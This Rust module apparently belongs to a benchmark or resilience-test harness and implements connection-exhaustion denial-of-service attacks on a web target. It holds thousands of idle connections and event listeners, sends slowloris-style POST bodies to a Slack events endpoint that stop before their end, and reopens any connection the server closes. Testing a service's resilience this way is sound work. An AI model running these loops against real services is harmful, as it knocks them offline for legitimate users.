//! Attacks by the number of connections: idle ones, listeners, and bodies that stop before their end.

use super::{Target, forms};
use crate::esb::ATTACKER;
use crate::http1::connect_from;
use std::io::ErrorKind;
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::timeout;

/// The limit of connections.
const IDLE: usize = 2_048;
/// The limit of listeners.
const LISTENERS: usize = 1_000;
/// Bodies that stop, and the bytes that are sent of each.
const STALLED: usize = 200;
const STALLED_BYTES: usize = 1_000_000;
/// Longest wait for a connection or a write.
const WITHIN: Duration = Duration::from_secs(2);
/// Connections that are opened at once, since systems queue few of them (`somaxconn`), and the wait between such
/// batches.
const OPENED_AT_ONCE: usize = 50;
const ACCEPTED_WITHIN: Duration = Duration::from_millis(20);
/// Interval of the check for closed connections.
const LOOK_EVERY: Duration = Duration::from_millis(500);

/// Silent connections.
pub(super) async fn stay_idle(target: Target) -> anyhow::Result<()> {
    hold(target, IDLE, &[]).await
}

/// Listeners of changes.
pub(super) async fn listen(target: Target) -> anyhow::Result<()> {
    hold(target, LISTENERS, &forms::get("/events")).await
}

/// Bodies to Slack's address that stop before their end.
pub(super) async fn stall_bodies(target: Target) -> anyhow::Result<()> {
    let head = format!(
        "POST /slack/events HTTP/1.1\r\nhost: bench\r\ncontent-type: application/json\r\n\
         content-length: {}\r\n\r\n",
        STALLED_BYTES + 1_000
    );
    hold(target, STALLED, &[head.into_bytes(), vec![b'x'; STALLED_BYTES]].concat()).await
}

/// Opens this number of connections and sends this head on each. Reopens those that are closed.
async fn hold(target: Target, count: usize, sent: &[u8]) -> anyhow::Result<()> {
    let mut held: Vec<TcpStream> = Vec::new();
    loop {
        held.retain(is_open);
        while held.len() < count {
            let Ok(Ok(mut stream)) = timeout(WITHIN, connect_from(ATTACKER, target.web)).await else { break };
            // A connection that accepts no more bytes stays open.
            let _ = timeout(WITHIN, stream.write_all(sent)).await;
            held.push(stream);
            if held.len().is_multiple_of(OPENED_AT_ONCE) {
                tokio::time::sleep(ACCEPTED_WITHIN).await;
            }
        }
        tokio::time::sleep(LOOK_EVERY).await;
    }
}

/// False for a connection that the peer has closed. Received bytes are dropped.
fn is_open(stream: &TcpStream) -> bool {
    let mut buffer = [0; 4096];
    loop {
        match stream.try_read(&mut buffer) {
            Ok(0) => return false,
            Ok(_) => {}
            Err(error) => return error.kind() == ErrorKind::WouldBlock,
        }
    }
}
